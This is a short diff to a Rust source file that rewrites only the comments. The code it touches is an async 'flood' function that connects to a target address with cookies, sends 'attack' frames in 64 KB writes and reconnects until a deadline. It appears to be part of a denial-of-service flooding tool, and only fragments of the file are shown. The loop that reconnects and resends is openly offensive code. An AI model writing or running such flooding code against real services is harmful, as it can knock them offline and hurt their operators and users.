@@ -1,4 +1,4 @@
-//! A socket that does not keep to the rules: bytes over TCP, as fast as they go.
+//! A socket that ignores the rules: raw bytes over TCP, as fast as possible.
 
 use std::net::SocketAddr;
 use std::time::{Duration, Instant};
@@ -9,18 +9,18 @@ use tokio::time::{sleep, timeout, timeout_at};
 
 use super::frames::{Attack, hello};
 
-/// Bytes that are written at once.
+/// Bytes per write.
 const PIECE: usize = 64 * 1024;
 
-/// Upgrades, says what the attack says, and begins anew when it is cut off; until then.
+/// Upgrades and sends the attack, reconnecting when it is cut off, until `until`.
 pub async fn flood(address: SocketAddr, cookies: String, attack: Attack, until: Instant) {
     while Instant::now() < until {
-        // Whatever goes wrong is as it should be.
+        // Any error is an acceptable outcome.
         if timeout_at(until.into(), once(address, &cookies, &attack))
             .await
             .is_ok()
         {
-            // Far more often than a page does, but not busy with nothing else than being refused.
+            // Far more often than a page, but not only busy being refused.
             sleep(Duration::from_millis(20)).await;
         }
     }
@@ -49,7 +49,7 @@ async fn once(address: SocketAddr, cookies: &str, attack: &Attack) -> std::io::R
     }
     writing.write_all(&attack.first).await?;
     if attack.then.is_empty() {
-        // Says nothing, and waits to be cut off.
+        // Waits silently to be cut off.
         let _ = drain.await;
         return Ok(());
     }
